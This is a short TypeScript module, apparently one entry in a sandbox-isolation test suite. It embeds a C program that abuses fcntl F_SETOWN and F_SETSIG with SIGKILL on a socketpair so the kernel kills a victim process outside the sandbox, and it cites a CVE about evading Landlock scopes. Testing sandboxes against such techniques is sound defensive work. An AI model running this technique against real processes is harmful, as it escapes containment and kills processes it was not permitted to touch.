import { type Attack, c, harmed } from '../attack.js'

export const attack: Attack = {
  id: 'processes/kill-by-owned-file',
  tries: 'to have the kernel signal a process outside when something happens on a descriptor',
  source: 'fcntl(2), F_SETOWN and F_SETSIG; CVE-2025-22077 is about this way around Landlock scopes',
  victim: true,
  program: c`
int main(void) {
  int pair[2];
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0) refused("socketpair");
  if (fcntl(pair[0], F_SETOWN, (int)number("VICTIM")) != 0) refused("F_SETOWN");
  if (fcntl(pair[0], F_SETSIG, SIGKILL) != 0 || fcntl(pair[0], F_SETFL, O_ASYNC | O_NONBLOCK) != 0) refused("fcntl");
  if (write(pair[1], "x", 1) != 1) refused("write");
}`,
  succeeded: harmed,
  control: 'plain',
}
